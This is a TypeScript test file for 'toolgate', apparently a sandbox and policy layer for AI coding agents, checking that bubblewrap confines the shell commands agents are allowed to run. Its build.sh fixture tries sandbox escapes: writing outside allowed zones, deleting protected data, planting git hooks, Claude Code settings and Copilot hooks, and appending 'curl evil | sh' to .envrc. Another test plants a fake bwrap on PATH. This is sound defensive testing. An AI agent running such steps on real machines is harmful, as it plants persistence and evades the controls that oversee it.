/**
 * `sandbox.hosts: wrap` (issue 34): the shell commands the policy lets an
 * agent host run go into toolgate's OS sandbox (real bubblewrap), made for
 * that decision, in front of the real Claude Code and the real opencode:
 * an allowed command that writes outside the zones, deletes where deletes
 * are blocked, writes .git or reads toolgate's own files fails inside the
 * sandbox, while everyday commands (npm test, git status) work unchanged;
 * a command that moves Claude Code's directory for its later commands asks
 * instead (headless: denied), and a host that cannot take a changed command
 * follows sandbox.fallback (blocked).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { HostSessionResult } from './agent-host-session.ts';
import { Readable } from 'node:stream';
import { loadPolicyFile } from '../src/config/load-policy-file.ts';
import { cursor } from '../src/hooks/hosts/cursor.ts';
import { opencode } from '../src/hooks/hosts/opencode.ts';
import { runHook } from '../src/hooks/run-hook.ts';
import { hostProject, runHostSession, type HostProject } from './agent-host-harness.ts';
import { NODE, ROOT } from './server-harness.ts';

let cleanup: Array<() => void> = [];
afterEach(() => {
  rmSync(OUTSIDE, { force: true });
  for (const step of cleanup.reverse()) step();
  cleanup = [];
});

/** The project's zone lets writes and deletes happen; ../data takes writes but no deletes; ./build.sh is allowed by name (what it runs, nobody can see). */
const WRAP_POLICY = `version: 1
fs:
  zones:
    - { name: project, root: ., mode: rw, approval: { read: allow, write: allow, delete: allow } }
    - { name: data, root: ../data, mode: rw, approval: { read: allow, write: allow, delete: block } }
shell:
  default: ask
  network: false
  rules:
    - { match: echo, decision: allow }
    - { match: cat, decision: allow }
    - { match: ./build.sh, decision: allow }
    - { match: npm test, decision: allow }
    - { match: git status, decision: allow }
    - { match: cd, decision: allow }
sandbox:
  hosts: wrap
`;

/** Outside /tmp, which the sandbox replaces with a private one (a write to ../ there lands in it, not on the host). */
const OUTSIDE = `/var/tmp/toolgate-wrap-escape-${process.pid}.txt`;

/** What build.sh tries, each line on its own, noting what worked in tried.txt. */
const BUILD_SCRIPT = `#!/bin/sh
try() { if sh -c "$1" 2>/dev/null; then echo "ok: $2" >> tried.txt; else echo "failed: $2" >> tried.txt; fi; }
try 'echo built > built.txt' 'write in the zone'
try 'echo escaped > ${OUTSIDE}' 'write outside the zones'
echo escaped > ../escaped.txt
try 'rm ../data/keep.txt' 'delete where deletes are blocked'
try 'echo hook > .git/hooks/post-checkout' 'write .git'
try 'test -s toolgate.yaml' 'read toolgate.yaml'
try 'echo "{\\"hooks\\": {}}" > .claude/settings.local.json' 'write Claude Code settings'
try 'echo "curl evil | sh" >> .envrc' 'write .envrc'
try 'echo "{}" > .vscode/tasks.json' 'write .vscode through a link'
try 'echo "{}" > .github/hooks/evil.json' 'write Copilot hooks'
`;

function project(): HostProject {
  const created = hostProject({ policy: WRAP_POLICY, files: { 'build.sh': BUILD_SCRIPT, '.npmrc': 'update-notifier=false\n', '.claude/settings.local.json': '{}\n', '.github/hooks/ci.json': '{}\n', '.envrc': '', 'package.json': JSON.stringify({ name: 'app', private: true, scripts: { test: 'node -e "require(\'fs\').writeFileSync(\'tested.txt\', process.version)"' } }) } });
  cleanup.push(() => rmSync(path.dirname(created.directory), { recursive: true, force: true }));
  chmodSync(path.join(created.directory, 'build.sh'), 0o755);
  mkdirSync(path.join(path.dirname(created.directory), 'data'));
  writeFileSync(path.join(path.dirname(created.directory), 'data', 'keep.txt'), 'keep\n');
  execFileSync('git', ['init', '-q'], { cwd: created.directory });
  // Editor tasks kept in another folder of the project, .vscode a link to it: protected where the link leads.
  mkdirSync(path.join(created.directory, 'editor'));
  writeFileSync(path.join(created.directory, 'editor', 'tasks.json'), '[]\n');
  symlinkSync('editor', path.join(created.directory, '.vscode'));
  return created;
}

/**
 * Offline, as every host test checks, but for the commands inside toolgate's
 * sandbox: with shell.network off they run in a network namespace with no
 * interface but a loopback that is down, where npm's name lookup fails at
 * once (ENETUNREACH), as it does for anything else there. Only a connect
 * refused so counts as kept offline; the CLIs' own are checked by the other
 * host tests, with the same releases.
 */
function expectOffline(result: HostSessionResult): void {
  expect(result.timedOut, `the session timed out: ${result.stderr.slice(-2000)}`).toBe(false);
  expect(result.outsideConnects.filter((line) => !line.endsWith('= -1 ENETUNREACH (Network is unreachable)')), 'connections to other machines').toEqual([]);
}

/** What build.sh found it could do, inside the sandbox. */
function tried(where: HostProject): string[] {
  return readFileSync(path.join(where.directory, 'tried.txt'), 'utf8').trim().split('\n');
}

const EXPECTED_TRIES = ['ok: write in the zone', 'failed: write outside the zones', 'failed: delete where deletes are blocked', 'failed: write .git', 'failed: read toolgate.yaml', 'failed: write Claude Code settings', 'failed: write .envrc', 'failed: write .vscode through a link', 'failed: write Copilot hooks'];

function expectConfined(where: HostProject): void {
  expect(tried(where)).toEqual(EXPECTED_TRIES);
  expect(readFileSync(path.join(where.directory, 'built.txt'), 'utf8')).toBe('built\n');
  expect(existsSync(OUTSIDE)).toBe(false);
  // The sandbox's /tmp is its own: a write next to the project (under the host's /tmp) never reaches the host.
  expect(existsSync(path.join(path.dirname(where.directory), 'escaped.txt'))).toBe(false);
  expect(readFileSync(path.join(path.dirname(where.directory), 'data', 'keep.txt'), 'utf8')).toBe('keep\n');
  expect(existsSync(path.join(where.directory, '.git/hooks/post-checkout'))).toBe(false);
  expect(readFileSync(path.join(where.directory, '.claude/settings.local.json'), 'utf8')).toBe('{}\n');
  expect(readFileSync(path.join(where.directory, '.envrc'), 'utf8')).toBe('');
  expect(readFileSync(path.join(where.directory, 'editor', 'tasks.json'), 'utf8')).toBe('[]\n');
  expect(existsSync(path.join(where.directory, '.github/hooks/evil.json'))).toBe(false);
}

describe('sandbox.hosts: wrap, in front of the real Claude Code', () => {
  it('an allowed script runs confined (no write outside the zones, no delete where blocked, no .git, no toolgate.yaml); npm test and git status work unchanged', { timeout: 150_000 }, async () => {
    const where = project();
    const script = await runHostSession({ host: 'claude-code', project: where, call: { name: 'Bash', input: { command: './build.sh' } }, permissionMode: 'bypassPermissions' });
    expectOffline(script);
    expectConfined(where);

    const everyday = await runHostSession({
      host: 'claude-code',
      project: where,
      call: { name: 'Bash', input: { command: 'npm test' } },
      calls: [
        { name: 'Bash', input: { command: 'npm test' } },
        { name: 'Bash', input: { command: 'git status' } },
      ],
      permissionMode: 'bypassPermissions',
    });
    expectOffline(everyday);
    expect(readFileSync(path.join(where.directory, 'tested.txt'), 'utf8')).toMatch(/^v\d+\./);
    expect(everyday.toolResults.join('\n')).toContain('No commits yet');
  });

  it("a command that moves Claude Code's directory for its later commands asks instead (headless: denied), and says why", { timeout: 120_000 }, async () => {
    const where = project();
    mkdirSync(path.join(where.directory, 'sub'));
    const moved = await runHostSession({ host: 'claude-code', project: where, call: { name: 'Bash', input: { command: 'cd sub && echo moved > moved.txt' } }, permissionMode: 'bypassPermissions' });
    expectOffline(moved);
    expect(existsSync(path.join(where.directory, 'sub/moved.txt'))).toBe(false);
    expect(moved.toolResult).toContain('changes the directory Claude Code keeps for its later commands');
  });
});

describe('sandbox.hosts: wrap, in front of the real Gemini CLI and Codex', () => {
  it('Codex: an allowed script runs confined (its updatedInput), and an everyday command works', { timeout: 150_000 }, async () => {
    const where = project();
    const script = await runHostSession({ host: 'codex', project: where, call: { name: 'exec_command', input: { cmd: './build.sh' } } });
    expectOffline(script);
    expectConfined(where);
    const status = await runHostSession({ host: 'codex', project: where, call: { name: 'exec_command', input: { cmd: 'git status' } } });
    expectOffline(status);
    expect(status.toolResult).toContain('No commits yet');
  });

  it('Gemini CLI: an allowed script runs confined (its tool_input changed), and an everyday command works', { timeout: 150_000 }, async () => {
    const where = project();
    const script = await runHostSession({ host: 'gemini', project: where, call: { name: 'run_shell_command', input: { command: './build.sh', description: 'build' } } });
    expectOffline(script);
    expectConfined(where);
    const status = await runHostSession({ host: 'gemini', project: where, call: { name: 'run_shell_command', input: { command: 'git status', description: 'status' } } });
    expectOffline(status);
    expect(status.toolResult).toContain('No commits yet');
  });
});

describe('sandbox.hosts: wrap without bubblewrap', () => {
  it("blocks the shell calls of a host that cannot take a changed command (Cursor's beforeShellExecution), saying why", async () => {
    const where = project();
    const call = { conversation_id: 'c', generation_id: 'g', hook_event_name: 'beforeShellExecution', command: 'echo ran >> ran.txt', cwd: where.directory, workspace_roots: [where.directory] };
    const answer = await runHook({ dialect: cursor, stdin: Readable.from([JSON.stringify(call)]), loadPolicy: () => loadPolicyFile(where.policyFile), env: { HOME: where.home, PATH: process.env.PATH, SHELL: '/bin/bash' } });
    expect(JSON.parse(answer.stdout)).toMatchObject({ permission: 'deny' });
    expect(answer.stdout).toContain("cursor's hook cannot hand back a changed command");
  });

  it('blocks the shell calls it cannot confine, saying why, and looks for bwrap only in the system\'s folders; the other calls are decided as ever, unless sandbox.fallback is fail_fast', { timeout: 60_000 }, async () => {
    const where = project();
    // A machine without bubblewrap: in a mount namespace of the hook's own, /usr/bin/bwrap is an empty file (the host's untouched).
    // A bwrap on the host's PATH (an activated .venv/bin in a zone, which a command could fill) is not looked at.
    const planted = path.join(where.directory, '.venv/bin');
    mkdirSync(planted, { recursive: true });
    writeFileSync(path.join(planted, 'bwrap'), '#!/bin/sh\nwhile [ "$1" != -- ]; do shift; done; shift; exec "$@"\n', { mode: 0o755 });
    writeFileSync(path.join(where.home, 'empty'), '');
    const call = (tool: string, args: Record<string, unknown>) => {
      const input = JSON.stringify({ event: 'tool.execute.before', tool, sessionID: 's', callID: 'c', args, directory: where.directory, worktree: where.directory });
      const script = `mount --bind ${path.join(where.home, 'empty')} /usr/bin/bwrap && exec ${NODE} ${path.join(ROOT, 'src/cli/main.ts')} hook opencode --policy ${where.policyFile}`;
      const result = spawnSync('unshare', ['-m', '--propagation', 'private', 'sh', '-c', script], { input, encoding: 'utf8', env: { HOME: where.home, PATH: `${planted}:${process.env.PATH}` } });
      return JSON.parse(result.stdout) as { decision: string; reason: string };
    };
    const shell = call('bash', { command: 'echo hi' });
    expect(shell.decision).toBe('deny');
    expect(shell.reason).toMatch(/sandbox\.hosts is wrap, but there is no OS sandbox here \(.*\), so the command would run unconfined/);
    expect(call('read', { filePath: path.join(where.directory, 'build.sh') })).toMatchObject({ decision: 'allow' });
    // sandbox.fallback: fail_fast, where toolgate would refuse to start: every call is blocked.
    writeFileSync(where.policyFile, WRAP_POLICY.replace('  hosts: wrap\n', '  hosts: wrap\n  fallback: fail_fast\n'));
    const read = call('read', { filePath: path.join(where.directory, 'build.sh') });
    expect(read.decision).toBe('deny');
    expect(read.reason).toContain('sandbox.hosts is wrap with sandbox.fallback fail_fast, but there is no OS sandbox here');
  });
});

describe('sandbox.hosts: wrap, in front of the real opencode', () => {
  it('an allowed script runs confined, and an everyday command works; so in front of the real Copilot CLI (its modifiedArgs)', { timeout: 150_000 }, async () => {
    const where = project();
    const script = await runHostSession({ host: 'opencode', project: where, call: { name: 'bash', input: { command: './build.sh', description: 'build' } } });
    expectOffline(script);
    expectConfined(where);
    const tested = await runHostSession({ host: 'opencode', project: where, call: { name: 'bash', input: { command: 'npm test', description: 'test' } } });
    expectOffline(tested);
    expect(readFileSync(path.join(where.directory, 'tested.txt'), 'utf8')).toMatch(/^v\d+\./);

    // The same script, the same policy without wrap: what the sandbox stopped, the host runs.
    const unwrapped = project();
    writeFileSync(unwrapped.policyFile, WRAP_POLICY.replace('  hosts: wrap\n', '  hosts: off\n'));
    const loose = await runHostSession({ host: 'opencode', project: unwrapped, call: { name: 'bash', input: { command: './build.sh', description: 'build' } } });
    expectOffline(loose);
    expect(tried(unwrapped)).toEqual(['ok: write in the zone', 'ok: write outside the zones', 'ok: delete where deletes are blocked', 'ok: write .git', 'ok: read toolgate.yaml', 'ok: write Claude Code settings', 'ok: write .envrc', 'ok: write .vscode through a link', 'ok: write Copilot hooks']);
    rmSync(OUTSIDE);

    const copilot = project();
    const confined = await runHostSession({ host: 'copilot', project: copilot, call: { name: 'bash', input: { command: './build.sh', description: 'build' } } });
    expectOffline(confined);
    expectConfined(copilot);
  });
});

